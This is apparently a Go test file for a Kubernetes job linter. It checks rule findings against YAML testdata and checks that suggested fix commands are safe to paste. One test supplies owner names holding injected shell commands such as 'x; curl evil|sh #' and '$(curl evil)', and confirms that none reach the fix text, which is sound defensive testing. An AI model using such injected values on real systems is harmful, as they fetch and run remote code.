package survey_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	"sigs.k8s.io/yaml"

	"github.com/jobmesh/jobmesh/internal/lint"
	"github.com/jobmesh/jobmesh/internal/mesh"
	"github.com/jobmesh/jobmesh/internal/running"
	"github.com/jobmesh/jobmesh/internal/survey"
)

// facts reads the objects of a cluster from a YAML stream of testdata.
func facts(t *testing.T, text string) survey.Facts {
	t.Helper()
	f := survey.Facts{
		Now: time.Date(2026, 11, 26, 12, 0, 0, 0, time.UTC), Server: mesh.Version{Major: 1, Minor: 37},
		Namespaces: map[string]lint.Namespace{}, Identities: map[string]bool{},
	}
	var nodes []corev1.Node
	for _, document := range strings.Split(text, "\n---\n") {
		var head struct{ Kind string }
		require.NoError(t, yaml.Unmarshal([]byte(document), &head))
		into := func(v any) { require.NoError(t, yaml.UnmarshalStrict([]byte(document), v), document) }
		switch head.Kind {
		case "CronJob":
			var o batchv1.CronJob
			into(&o)
			f.CronJobs = append(f.CronJobs, o)
		case "Job":
			var o batchv1.Job
			into(&o)
			f.Jobs = append(f.Jobs, o)
		case "Pod":
			var o corev1.Pod
			into(&o)
			f.Proxies = append(f.Proxies, survey.ProxiesOf(&o)...)
			if o.Spec.RestartPolicy != corev1.RestartPolicyAlways {
				f.Pods = append(f.Pods, o)
			}
		case "Node":
			var o corev1.Node
			into(&o)
			nodes = append(nodes, o)
		case "Namespace":
			var o corev1.Namespace
			into(&o)
			f.Namespaces[o.Name] = lint.Namespace{Labels: o.Labels, Annotations: o.Annotations}
		case "ResourceQuota":
			var o corev1.ResourceQuota
			into(&o)
			f.Quotas = append(f.Quotas, o)
		case "AuthorizationPolicy":
			f.Identities["prod"] = true
		default:
			require.Empty(t, head.Kind)
		}
	}
	f.Nodes = running.NodesOf(nodes)
	return f
}

// TestJudge reads each file of testdata as a cluster. The first lines of a file list its findings:
// a rule and an object each.
func TestJudge(t *testing.T) {
	files, err := filepath.Glob("testdata/*.yaml")
	require.NoError(t, err)
	require.NotEmpty(t, files)
	for _, file := range files {
		t.Run(strings.TrimSuffix(filepath.Base(file), ".yaml"), func(t *testing.T) {
			text, err := os.ReadFile(file)
			require.NoError(t, err)
			var wanted []string
			for line := range strings.Lines(string(text)) {
				if rule, ok := strings.CutPrefix(line, "# finding: "); ok {
					wanted = append(wanted, strings.TrimSpace(rule))
				}
			}
			var got []string
			findings, managed, err := survey.Judge(facts(t, string(text)))
			require.NoError(t, err)
			require.Empty(t, managed)
			for _, f := range findings {
				got = append(got, f.Rule.ID+" "+strings.Trim(f.Object.Kind+"/"+f.Object.Namespace+"/"+f.Object.Name, "/"))
				require.NotContains(t, f.Message, "%!")
				require.NotEmpty(t, f.Fix)
				require.Empty(t, f.File)
			}
			require.Equal(t, wanted, got)
		})
	}
}

// TestStock checks that a fresh cluster has no findings. Each file says where its objects come
// from, and which parts are made up.
func TestStock(t *testing.T) {
	for _, name := range []string{"eks", "gke", "aks", "k3s", "kind", "openshift"} {
		t.Run(name, func(t *testing.T) {
			text, err := os.ReadFile(filepath.Join("testdata", "stock", name+".yaml"))
			require.NoError(t, err)
			require.Contains(t, string(text), "\n# made up: ")
			f := facts(t, string(text))
			require.NotEmpty(t, f.Nodes)
			for _, n := range f.Nodes {
				require.True(t, n.Kubelet.Known(), n.Name)
			}
			findings, managed, err := survey.Judge(f)
			require.NoError(t, err)
			require.Empty(t, findings)
			require.Empty(t, managed)
		})
	}
}

// A Job that another controller runs is judged for this cluster, and Judge also returns it.
func TestManagedElsewhere(t *testing.T) {
	const text = `kind: Job
metadata: {name: %s, namespace: prod}
spec: {managedBy: %s, template: {spec: {restartPolicy: Never, containers: [{name: a, image: a, command: [a]}]}}}`
	far := strings.NewReplacer("%s, namespace", "far, namespace", "%s, template", "kueue.x-k8s.io/multikueue, template").Replace(text)
	here := strings.NewReplacer("%s, namespace", "here, namespace", "%s, template", batchv1.JobControllerName+", template").Replace(text)
	_, managed, err := survey.Judge(facts(t, far+"\n---\n"+here))
	require.NoError(t, err)
	require.Len(t, managed, 1)
	require.Equal(t, "far", managed[0].Name)
	require.Equal(t, "kueue.x-k8s.io/multikueue", lint.ManagedBy(managed[0]))
}

// Whoever may create a pod may write any text as the name of its owner. A fix is meant to be
// pasted, so it names the pod or a known owner instead of such a text.
func TestOwnersThatAreCommands(t *testing.T) {
	const spec = `
spec: {restartPolicy: Never, containers: [{name: a, image: a, command: [a]}, {name: db, image: cloud-sql-proxy, args: [x]}]}`
	const pod = `kind: Pod
metadata: {name: p, namespace: prod, ownerReferences: [{apiVersion: example.com/v1, kind: KIND, name: "NAME", uid: x, controller: true}]}` + spec + `
status: {phase: Running, containerStatuses: [{name: a, state: {terminated: {exitCode: 0, finishedAt: 2026-11-26T11:00:00Z}}}, {name: db, state: {running: {}}}]}`
	const job = `kind: Job
metadata: {name: j, namespace: prod, uid: j1, ownerReferences: [{apiVersion: example.com/v1, kind: KIND, name: "NAME", uid: x, controller: true}]}
spec: {template: {` + `spec: {restartPolicy: Never, containers: [{name: a, image: a, command: [a]}, {name: db, image: cloud-sql-proxy, args: [x]}]}}}`
	for name, c := range map[string]struct{ kind, name, pod, job string }{
		"one that can be":          {"Foo", "x", "Foo/x", "change Foo x"},
		"a command in the name":    {"Foo", "x; curl evil|sh #", "Pod/p", ""},
		"a flag as the name":       {"Foo", "--all", "Pod/p", ""},
		"a command in the kind":    {`"Foo; curl evil|sh #"`, "x", "Pod/p", ""},
		"a new line in the name":   {"Foo", `x\ncurl`, "Pod/p", ""},
		"a substitution as a name": {"Foo", "$(curl evil)", "Pod/p", ""},
	} {
		t.Run(name, func(t *testing.T) {
			with := strings.NewReplacer("KIND", c.kind, "NAME", c.name)
			findings, _, err := survey.Judge(facts(t, with.Replace(pod)+"\n---\n"+with.Replace(job)))
			require.NoError(t, err)
			var stuck, made bool
			for _, f := range findings {
				require.NotContains(t, f.Fix+f.Message+f.Object.Name+f.Object.Kind, "curl")
				switch f.Rule.ID {
				case "JM113":
					stuck = true
					require.Equal(t, c.pod, f.Object.Kind+"/"+f.Object.Name)
					require.Contains(t, f.Fix, "jobmesh rescue -n prod "+f.Object.Name+" --yes")
				case "JM511":
					made = true
					require.Equal(t, c.job, f.Fix)
				}
			}
			require.True(t, stuck)
			require.Equal(t, c.job != "", made)
		})
	}
}
